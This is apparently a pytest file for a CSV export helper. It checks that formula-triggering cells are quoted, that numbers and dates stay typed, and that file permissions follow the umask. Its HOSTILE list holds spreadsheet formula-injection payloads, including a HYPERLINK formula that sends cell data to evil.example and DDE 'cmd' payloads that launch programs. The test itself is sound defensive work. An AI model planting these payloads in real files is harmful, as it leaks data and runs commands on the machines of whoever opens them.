"""CSV exports: atomic, safe to open in a spreadsheet (no formula injection), numbers kept numeric,
and readable by the group and others like any file the user makes."""

from __future__ import annotations

import csv
import os
import stat
from datetime import date, datetime, timezone

import polars as pl
import pytest

from funnel_assets.lib.exports import write_csv_export

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # OWASP: the first characters a spreadsheet runs as a formula

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _leads() -> pl.DataFrame:
    return pl.DataFrame({
        "phone_key": ["919800000001", "919800000002", "919800000003", "919800000004", "919800000005", "919800000006", "919800000007"],
        "employee": [*HOSTILE, "Asha Rao"],
        "first_source": ["acca_webinar_meta", "Referral", "-", "a=b", "x@y", None, "Organic Website"],
        "net_amount": [-12.5, 42000.5, 0.0, -1.0, 3.25, None, 7.0],
        "assignments": [-3, 1, 2, 3, 4, 5, 6],
        "attended": [True, False, True, False, True, False, None],
        "day": [date(2026, 9, 2)] * 7,
        "at": [datetime(2026, 9, 2, 6, 30, tzinfo=timezone.utc)] * 7,
    })


def _read_cells(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_text_cells_that_start_a_formula_are_written_with_a_quote_in_front(tmp_path):
    path = write_csv_export(_leads(), tmp_path, "attributed_leads")
    rows = _read_cells(path)
    assert [r["employee"] for r in rows] == [f"'{h}" for h in HOSTILE] + ["Asha Rao"]
    # "-" alone is a formula trigger too; a trigger inside the text is harmless and left alone.
    assert [r["first_source"] for r in rows] == ["acca_webinar_meta", "Referral", "'-", "a=b", "x@y", "", "Organic Website"]
    for row in rows:
        for column in ("phone_key", "employee", "first_source"):
            assert not row[column].startswith(FORMULA_TRIGGERS), (column, row[column])


def test_numbers_dates_and_flags_are_written_as_they_are(tmp_path):
    path = write_csv_export(_leads(), tmp_path, "attributed_leads")
    rows = _read_cells(path)
    assert [r["net_amount"] for r in rows] == ["-12.5", "42000.5", "0.0", "-1.0", "3.25", "", "7.0"]
    assert [r["assignments"] for r in rows][0] == "-3"
    assert rows[0]["attended"] == "true" and rows[0]["day"] == "2026-09-02" and rows[0]["at"] == "2026-09-02T06:30:00Z"
    back = pl.read_csv(path)  # a BI tool infers the types back
    assert back.schema["net_amount"] == pl.Float64 and back.schema["assignments"] == pl.Int64
    assert back["net_amount"].to_list()[0] == -12.5


def test_categorical_text_is_neutralised_too(tmp_path):
    frame = pl.DataFrame({"funnel": ["=1+1", "ACCA"]}, schema={"funnel": pl.Categorical})
    assert [r["funnel"] for r in _read_cells(write_csv_export(frame, tmp_path, "funnels"))] == ["'=1+1", "ACCA"]


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o002, 0o664), (0o077, 0o600)])
def test_the_file_is_created_like_any_file_the_user_makes(tmp_path, umask, mode):
    previous = os.umask(umask)
    try:
        path = write_csv_export(_leads(), tmp_path, "attributed_leads")
        again = write_csv_export(_leads(), tmp_path, "attributed_leads")  # replacing an existing export
    finally:
        os.umask(previous)
    assert again == path
    assert stat.S_IMODE(path.stat().st_mode) == mode
    assert [p.name for p in tmp_path.iterdir()] == ["attributed_leads.csv"]  # no temporary file left
